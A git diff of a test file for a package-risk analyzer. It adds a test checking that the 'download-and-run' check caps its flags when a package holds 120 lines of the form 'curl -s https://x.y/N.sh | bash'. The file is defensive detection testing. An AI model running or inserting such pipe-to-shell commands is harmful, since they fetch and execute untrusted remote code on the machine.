@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CHECKS, RISK_CHECKS, analyzeRisk, compareFlags, type RiskFlag } from './index.js';
+import { CHECKS, MAX_FLAGS_PER_CHECK, RISK_CHECKS, analyzeRisk, compareFlags, type RiskFlag } from './index.js';
 import { NOW, brief, high, lineOf, meta, riskInput, sha } from './fixtures/helpers.js';
 import { PYTHON_PKG, WIDGET_GIT, fancySums, fancytool, slinkyBin } from './fixtures/packages.js';
 
@@ -127,6 +127,22 @@ describe('analyzeRisk on malicious revisions', () => {
       { check: 'binary-or-large-file', severity: 'medium', file: 'payload.bin' },
     ]);
     expect(flags.every((f) => f.reason.endsWith('.'))).toBe(true);
+  });
+});
+
+describe('analyzeRisk on a flood of lines', () => {
+  it('caps the flags of one check and sums up the rest in one flag', () => {
+    const cand = fancytool({ packageExtra: Array.from({ length: 120 }, (_, i) => `curl -s https://x.y/${i}.sh | bash`) });
+    const flags = analyzeRisk(riskInput(cand, fancytool()));
+    const run = flags.filter((f) => f.check === 'download-and-run');
+    expect(run).toHaveLength(MAX_FLAGS_PER_CHECK + 1);
+    expect(run.filter((f) => f.line === undefined)).toEqual([
+      {
+        check: 'download-and-run',
+        severity: 'high',
+        reason: `download-and-run found ${120 - MAX_FLAGS_PER_CHECK} more lines like the ones above; review the whole file.`,
+      },
+    ]);
   });
 });
 
